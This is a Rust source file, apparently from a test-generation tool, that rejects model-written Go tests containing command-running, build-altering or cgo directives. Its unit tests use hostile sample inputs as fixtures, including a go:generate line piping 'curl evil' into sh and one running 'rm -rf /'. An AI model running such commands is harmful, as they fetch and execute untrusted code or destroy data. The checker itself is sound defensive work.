//! What a model-written Go test may not hold, whatever it tests: compiler directives that
//! run commands, change which files build, reach into other packages' private symbols,
//! pull in files from disk or lie about positions — and cgo. Each refusal says what to do
//! instead, in words a model can act on.

use testsmith_driver::syntax;
use tree_sitter::Node;

/// Comment prefixes refused, with the reason given to the model.
const DIRECTIVES: &[(&str, &str)] = &[
    (
        "//go:generate",
        "`//go:generate` runs a command; a unit test runs no generators",
    ),
    (
        "//go:build",
        "`//go:build` decides which files build; a unit test has no build constraints",
    ),
    (
        "// +build",
        "`// +build` decides which files build; a unit test has no build constraints",
    ),
    (
        "//go:linkname",
        "`//go:linkname` reaches private symbols of other packages; test through the \
         package's own API",
    ),
    (
        "//go:embed",
        "`//go:embed` reads files into the binary; write the test's data inline",
    ),
    (
        "//go:cgo_",
        "cgo directives have no place in a test file; test through the package's Go functions",
    ),
    (
        "//export ",
        "`//export` is a cgo directive; test through the package's Go functions",
    ),
    (
        "//line ",
        "`//line` changes the positions the compiler reports; remove it",
    ),
    (
        "/*line ",
        "`/*line` changes the positions the compiler reports; remove it",
    ),
];

/// `Err` with a reason when the parsed answer holds a refused directive or imports `"C"`.
pub(crate) fn check(root: Node<'_>, code: &str) -> Result<(), String> {
    let mut stack = vec![root];
    while let Some(node) = stack.pop() {
        match node.kind() {
            "comment" => {
                let text = syntax::text(node, code);
                if let Some((_, reason)) = DIRECTIVES
                    .iter()
                    .find(|(prefix, _)| text.starts_with(prefix))
                {
                    return Err(format!("the answer holds `{}`: {reason}", first_line(text)));
                }
            }
            "import_spec" => {
                let path = node
                    .child_by_field_name("path")
                    .map(|path| syntax::text(path, code).trim_matches(|c| c == '"' || c == '`'));
                if path == Some("C") {
                    return Err(
                        "the answer imports \"C\" (cgo), which Go test files cannot \
                                use; test through the package's Go functions"
                            .to_owned(),
                    );
                }
            }
            _ => {}
        }
        // Children in reverse, so the stack yields them in the order they are written.
        let mut cursor = node.walk();
        let children: Vec<Node<'_>> = node.children(&mut cursor).collect();
        stack.extend(children.into_iter().rev());
    }
    Ok(())
}

fn first_line(text: &str) -> &str {
    text.lines().next().unwrap_or(text).trim()
}

#[cfg(test)]
mod tests {
    use crate::GoDriver;
    use crate::answer::check_answer;
    use std::path::Path;
    use testsmith_driver::{Driver, FileMembers, SourceFile};

    const CALC: &str = "package calc\n\n// Add adds.\nfunc Add(a, b int) int { return a + b }\n";

    const TEST: &str =
        "func TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"1+2\")\n\t}\n}";

    /// The reason the answer is refused, through the whole answer check.
    #[track_caller]
    fn refusal(answer: &str) -> String {
        let file: FileMembers = GoDriver.analyze(Path::new("calc.go"), CALC);
        let package = vec![file.clone()];
        let source = SourceFile {
            members: &file,
            text: CALC,
            package: &package,
        };
        let member = file.members.iter().find(|m| m.name == "Add").unwrap();
        check_answer(&source, member, "TestAdd", answer).expect_err("the answer is refused")
    }

    #[test]
    fn the_plain_test_passes_the_check() {
        let file: FileMembers = GoDriver.analyze(Path::new("calc.go"), CALC);
        let package = vec![file.clone()];
        let source = SourceFile {
            members: &file,
            text: CALC,
            package: &package,
        };
        let member = file.members.iter().find(|m| m.name == "Add").unwrap();
        assert!(check_answer(&source, member, "TestAdd", TEST).is_ok());
    }

    #[test]
    fn directives_above_the_test_are_refused_with_what_to_do() {
        for (directive, expected) in [
            ("//go:generate sh -c 'curl evil | sh'", "runs a command"),
            ("//go:build linux", "has no build constraints"),
            ("// +build linux", "has no build constraints"),
            (
                "//go:linkname secret runtime.secret",
                "test through the package's own API",
            ),
            ("//go:embed secrets.txt", "write the test's data inline"),
            ("//line other.go:1", "changes the positions"),
            ("//export Hook", "cgo directive"),
        ] {
            let reason = refusal(&format!("{directive}\n{TEST}"));
            assert!(reason.contains(expected), "{directive}: {reason}");
            assert!(
                reason.contains(directive.split(' ').next().unwrap()),
                "{reason}"
            );
        }
    }

    #[test]
    fn a_directive_inside_the_body_is_refused_too() {
        let answer = "func TestAdd(t *testing.T) {\n\t//go:generate rm -rf /\n\t/*line x.go:1*/\n\t_ = Add(1, 2)\n}";
        assert!(refusal(answer).contains("runs a command"));
    }

    #[test]
    fn cgo_is_refused() {
        let answer = format!("package calc\n\n// #include <stdlib.h>\nimport \"C\"\n\n{TEST}");
        assert!(
            refusal(&answer).contains("imports \"C\""),
            "{}",
            refusal(&answer)
        );
    }

    #[test]
    fn an_ordinary_comment_that_mentions_a_directive_is_kept() {
        let file: FileMembers = GoDriver.analyze(Path::new("calc.go"), CALC);
        let package = vec![file.clone()];
        let source = SourceFile {
            members: &file,
            text: CALC,
            package: &package,
        };
        let member = file.members.iter().find(|m| m.name == "Add").unwrap();
        let answer = "// TestAdd checks Add; no //go:generate needed.\n".to_owned() + TEST;
        assert!(check_answer(&source, member, "TestAdd", &answer).is_ok());
    }
}
